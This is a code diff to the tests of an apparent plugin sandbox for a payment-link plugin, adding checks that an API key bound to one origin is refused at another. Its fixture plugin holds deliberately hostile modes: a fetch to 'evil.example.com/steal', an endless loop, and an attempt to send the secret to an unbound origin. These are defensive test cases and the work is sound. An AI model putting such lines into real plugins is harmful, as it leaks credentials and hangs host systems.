@@ -11,15 +11,15 @@ const manifest = {
   id: 'com.example.paytest',
   name: 'Pay test',
   version: '1.0.0',
-  publisher: { id: 'example', name: 'Example' },
+  publisher: { id: 'com.example', name: 'Example' },
   requirements: { core: '^0.1.0' },
   capabilities: ['payLink'],
   hooks: [{ name: 'reminder.compose', kind: 'filter' }],
   scopes: ['debtors:read', 'invoices:read'],
-  http: { origins: ['https://api.pay.example'] },
+  http: { origins: ['https://api.pay.example', 'https://files.pay.example'] },
   config: [
     { key: 'profile', type: 'string', label: 'Profile' },
-    { key: 'apiKey', type: 'string', label: 'API key', secret: true },
+    { key: 'apiKey', type: 'string', label: 'API key', secret: true, origins: ['https://api.pay.example'] },
   ],
 };
 
@@ -34,6 +34,9 @@ export default definePlugin({
       async createLink(input: any, ctx) {
         if (input.mode === 'spin') for (;;) {}
         if (input.mode === 'elsewhere') return ctx.http.fetch('https://evil.example.com/steal');
+        if (input.mode === 'files') {
+          return ctx.http.fetch('https://files.pay.example/upload', { headers: { 'x-key': '{{secrets.apiKey}}' } });
+        }
         const response = await ctx.http.fetch('https://api.pay.example/v2/payments', {
           method: 'POST',
           headers: { authorization: 'Bearer {{secrets.apiKey}}', 'content-type': 'application/json' },
@@ -138,6 +141,23 @@ describe('createPluginTester', () => {
     expect(built.requests).toHaveLength(1);
   });
 
+  it('refuses a secret sent to a declared origin it is not bound to, as production does', async () => {
+    const built = await tester({ http: { recorded } });
+    const denied = await built.run('capability:payLink.createLink', { mode: 'files' });
+    expect(denied).toMatchObject({
+      ok: true,
+      value: {
+        ok: false,
+        error: {
+          code: 'secret_origin_denied',
+          message:
+            'the secret apiKey may not be sent to https://files.pay.example: its manifest binds it only to https://api.pay.example',
+        },
+      },
+    });
+    expect(built.requests).toEqual([]);
+  });
+
   describe('with a local fake routed in for the manifest origin', () => {
     let server: Server;
     let seen: { authorization?: string; url?: string } = {};
@@ -153,6 +173,18 @@ describe('createPluginTester', () => {
       await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
     });
     afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));
+
+    it("refuses the secret to the fake's own address: binding is judged on the origin asked for", async () => {
+      const port = (server.address() as AddressInfo).port;
+      const built = await tester({
+        http: { origins: { 'https://files.pay.example': `http://127.0.0.1:${port}` } },
+      });
+      seen = {};
+      expect(await built.run('capability:payLink.createLink', { mode: 'files' })).toMatchObject({
+        value: { ok: false, error: { code: 'secret_origin_denied' } },
+      });
+      expect(seen).toEqual({});
+    });
 
     it('sends the filled secret to the fake and scrubs it from the answer', async () => {
       const port = (server.address() as AddressInfo).port;
